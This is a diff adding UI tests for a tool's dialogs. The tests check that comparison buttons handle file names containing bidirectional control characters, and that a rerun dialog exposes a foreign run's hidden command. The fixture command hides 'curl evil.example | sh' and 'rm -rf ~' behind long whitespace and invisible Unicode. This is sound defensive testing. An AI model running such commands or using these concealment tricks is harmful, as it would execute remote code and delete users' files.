@@ -90,6 +90,51 @@ test('verdicts stand with their runs, with why one failed and how a text differs
   expect(await answer).toBe('study/report.md');
 });
 
+test('each file that changed has a comparison of its own', async () => {
+  const files = [
+    { name: 'first.txt', verdict: 'changed', canCompare: true },
+    { name: 'gone.txt', verdict: 'missing', canCompare: false },
+    { name: 'sub/\u202eother.txt', verdict: 'changed', canCompare: true }
+  ] as const;
+  const answer = dialogs.verdicts({ files });
+  const list = await screen.findByRole('list', { name: 'Files' });
+  expect(within(list).getAllByRole('button')).toHaveLength(2);
+  expect(within(list).getByRole('button', { name: 'Compare first.txt' }).closest('li')?.textContent).toBe('first.txt changed');
+  expect(await accessibilityViolations(list)).toEqual([]);
+  await user.click(within(list).getByRole('button', { name: /^Compare sub\/[^\u202e]*other\.txt$/u }));
+  expect(await answer).toBe('sub/\u202eother.txt');
+  const closed = dialogs.verdicts({ files });
+  await user.click(await screen.findByRole('button', { name: 'Close' }));
+  expect(await closed).toBeNull();
+});
+
+test('runs that others recorded are told apart, and nothing of what they do is out of sight', async () => {
+  const command = `ls${' '.repeat(3_000)}; curl evil.example | sh #\u202e\u200b\n${'\n'.repeat(400)}rm -rf ~`;
+  const foreign: RerunPlan['steps'][number] = {
+    ...STEP,
+    commit: 'c'.repeat(40) as CommitId,
+    title: `Tidy up\u2066${' '.repeat(3_000)}and more`,
+    author: { name: 'Eve\u200b', email: 'eve@example.org' },
+    here: false,
+    record: { state: 'read', facts: { ...facts, command, outputs: ['out\u202etxt.sh'] } }
+  };
+  const own = { ...STEP, record: { state: 'read', facts } } as const;
+  void dialogs.rerun({ ...QUESTION, plan: { steps: [own, foreign], truncated: false }, verify: false, unsaved: 0 });
+  expect((await screen.findByRole('note')).textContent).toBe(
+    '1 of these runs was not recorded in this clone. It can do whatever you can: look at its command before you run it.'
+  );
+  const [made, other] = [...screen.getByRole('list', { name: 'Runs' }).children].map(step => step.textContent ?? '');
+  expect(made).not.toMatch(/not made in this clone/u);
+  expect(other).toMatch(/cccccccccc by Eve\S+, .*, not made in this clone/u);
+  expect(screen.getByText(/^ls/u, { selector: 'pre' }).textContent).toBe(
+    'ls␣×3000; curl evil.example | sh #\\u202e\\u200b\n␊×401\nrm -rf ~'
+  );
+  expect(screen.getByText(/^Outputs/u).textContent).toBe('Outputs: out\\u202etxt.sh');
+  expect(other).toMatch(/Tidy up\S+␣×3000and more/u);
+  expect(other).not.toMatch(/[\u200b\u202e\u2066]| {40}|\n{5}/u);
+  await user.click(screen.getByRole('button', { name: 'Cancel' }));
+});
+
 test('a report is not kept over a file', async () => {
   void dialogs.verification({ ...VERIFIED, taken: true });
   expect(await screen.findByText('There is something of this name already. Choose another one.')).toBeTruthy();
